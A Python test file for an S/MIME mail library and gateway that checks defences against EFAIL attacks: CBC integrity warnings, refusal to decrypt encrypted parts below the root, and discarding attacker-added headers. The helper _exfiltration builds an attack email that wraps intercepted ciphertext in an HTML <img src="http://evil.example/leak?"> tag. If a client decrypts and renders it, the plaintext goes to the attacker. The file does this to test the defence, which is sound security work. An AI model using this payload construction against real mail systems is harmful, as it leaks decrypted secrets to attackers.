"""Attack class EFAIL (Poddebniak et al., USENIX Security 2018): make the recipient's own software decrypt a
ciphertext and send the plaintext to the attacker.

CBC gadgets change EnvelopedData-CBC plaintext undetected, so such a message is reported "integrity not
protected" unless a valid signature inside covers it. Direct exfiltration wraps the ciphertext in attacker HTML
(``<img src="http://evil/?`` + ciphertext + ``">``): mailseal decrypts only the root, never an encrypted part
further down, and the decrypted output is the decrypted entity alone, never joined to parts the attacker wrote. A
naive decryptor decrypts every encrypted part it finds and renders the parts as one HTML document.
"""

from __future__ import annotations

import mailseal
from mailseal.cli.render import render
from tests.attacks.support import alice, mail, sign, trust
from tests.gateway.conftest import StartGateway
from tests.gateway.harness import Org
from tests.support.messages import ident
from tests.support.smtp_sink import SmtpSink
from tests.support.testpki import TestPKI

SECRET = b"The merger closes on Friday at 48 EUR a share."


def _sealed(pki: TestPKI, cipher: str, signed: bool = False) -> bytes:
    message = mail("alice@example.org", SECRET + b"\r\n", to="bob@example.org")
    if signed:
        message = sign(message, alice(pki))
    return mailseal.encrypt(message, [pki.user("bob").cert], cipher=cipher)


def _exfiltration(sealed: bytes) -> bytes:
    """The intercepted ciphertext part between two attacker HTML parts that open and close an <img src=...>."""
    head, _, body = sealed.partition(b"\r\n\r\n")
    fields = head.replace(b"\r\n ", b" ").split(b"\r\n")
    part = b"\r\n".join(f for f in fields if f.lower().startswith(b"content-")) + b"\r\n\r\n" + body
    return (b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: re: merger\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n'
            b'--x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/leak?\r\n'
            b"--x\r\n" + part + b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n")


def test_cbc_without_signature_is_integrity_not_protected(pki: TestPKI) -> None:
    """Naive: decrypts and shows the plaintext as if nobody could have changed it."""
    opened = mailseal.open(_sealed(pki, "aes256-cbc"), [ident(pki.user("bob"))])
    report = opened.report
    assert report.layers[0].kind == "enveloped" and not report.integrity_protected
    assert any(w.startswith("integrity not protected") for w in report.to_dict()["warnings"])
    assert "integrity NOT protected" in render(report)


def test_cbc_with_valid_signature_inside_is_integrity_protected(pki: TestPKI) -> None:
    """Control: a valid signature inside protects what CBC cannot (no warning where none is due)."""
    report = mailseal.open(_sealed(pki, "aes256-cbc", signed=True), [ident(pki.user("bob"))], trust=trust(pki)).report
    assert report.status == "valid" and report.integrity_protected
    assert not any(w.startswith("integrity not protected") for w in report.to_dict()["warnings"])


def test_gcm_is_integrity_protected(pki: TestPKI) -> None:
    """Control: AES-GCM carries its own integrity."""
    report = mailseal.open(_sealed(pki, "aes256-gcm"), [ident(pki.user("bob"))]).report
    assert report.layers[0].kind == "auth-enveloped" and report.integrity_protected


def test_encrypted_part_below_the_root_is_never_decrypted(pki: TestPKI) -> None:
    """Direct exfiltration. Naive: decrypts the middle part and renders
    <img src="http://evil.example/leak?The merger closes...">, a request that carries the secret out."""
    opened = mailseal.open(_exfiltration(_sealed(pki, "aes256-gcm")), [ident(pki.user("bob"))])
    assert opened.report.layers == () and not opened.report.encrypted
    assert any("application/pkcs7-mime" in p for p in opened.report.nested_parts)
    assert SECRET not in opened.message


def test_decrypt_refuses_a_message_whose_root_is_not_encrypted(pki: TestPKI) -> None:
    """`decrypt` too takes only a root encryption layer. Naive: decrypts the first encrypted part it finds."""
    from mailseal.errors import NotEncryptedError

    try:
        mailseal.decrypt(_exfiltration(_sealed(pki, "aes256-cbc")), ident(pki.user("bob")))
    except NotEncryptedError:
        return
    raise AssertionError("decrypt took an encrypted part below the root")


def test_decrypted_output_is_the_decrypted_entity_alone(pki: TestPKI) -> None:
    """Attacker fields added outside (a base URL, a location, a second Content-Type text/html) never merge with the
    decrypted entity. Naive: keeps them and renders the plaintext as HTML under the attacker's base."""
    sealed = _sealed(pki, "aes256-gcm")
    head, _, body = sealed.partition(b"\r\n\r\n")
    tampered = (b"Content-Base: http://evil.example/\r\nContent-Location: http://evil.example/x.html\r\n" + head
                + b"\r\nContent-Type: text/html\r\n\r\n" + body)
    plain = mailseal.decrypt(tampered, ident(pki.user("bob")))
    out_head = plain.split(b"\r\n\r\n", 1)[0].lower()
    assert out_head.count(b"content-type:") == 1 and b"text/html" not in out_head
    assert b"content-base" not in out_head and b"content-location" not in out_head
    assert SECRET in plain


def test_gateway_notes_cbc_integrity(start_gateway: StartGateway, sink: SmtpSink, org: Org) -> None:
    """Naive gateway: decrypts and delivers; the recipient never learns the plaintext could have been altered."""
    gw = start_gateway({"gateway": {"trusted_networks": []}})
    sealed = mailseal.encrypt(mail("erin@partner.example", SECRET + b"\r\n"), [org.alice.cert], cipher="aes256-cbc")
    assert gw.send(sealed, "erin@partner.example", ["alice@example.org"]) == {}
    [got] = sink.wait_for(1)
    assert SECRET in got.data
    [stamp] = got.header("Authentication-Results")
    assert "integrity not protected" in " ".join(stamp.split())


def test_gateway_does_not_note_gcm(start_gateway: StartGateway, sink: SmtpSink, org: Org) -> None:
    """Control: no integrity note for AES-GCM."""
    gw = start_gateway({"gateway": {"trusted_networks": []}})
    sealed = mailseal.encrypt(mail("erin@partner.example", SECRET + b"\r\n"), [org.alice.cert], cipher="aes256-gcm")
    assert gw.send(sealed, "erin@partner.example", ["alice@example.org"]) == {}
    [got] = sink.wait_for(1)
    assert SECRET in got.data
    assert "integrity not protected" not in " ".join(" ".join(got.header("Authentication-Results")).split())


def test_gateway_leaves_an_exfiltration_message_encrypted(start_gateway: StartGateway, sink: SmtpSink,
                                                          org: Org) -> None:
    """The victim's gateway holds alice's key: a naive one decrypts the part inside the attacker's HTML and
    delivers the plaintext between the <img src=" and ">."""
    gw = start_gateway({"gateway": {"trusted_networks": []}})
    sealed = mailseal.encrypt(mail("erin@partner.example", SECRET + b"\r\n"), [org.alice.cert], cipher="aes256-cbc")
    assert gw.send(_exfiltration(sealed), "mallory@evil.example", ["alice@example.org"]) == {}
    [got] = sink.wait_for(1)
    assert SECRET not in got.data
    body = sealed.split(b"\r\n\r\n", 1)[1]
    assert body.strip().splitlines()[0] in got.data  # the ciphertext is delivered as it came
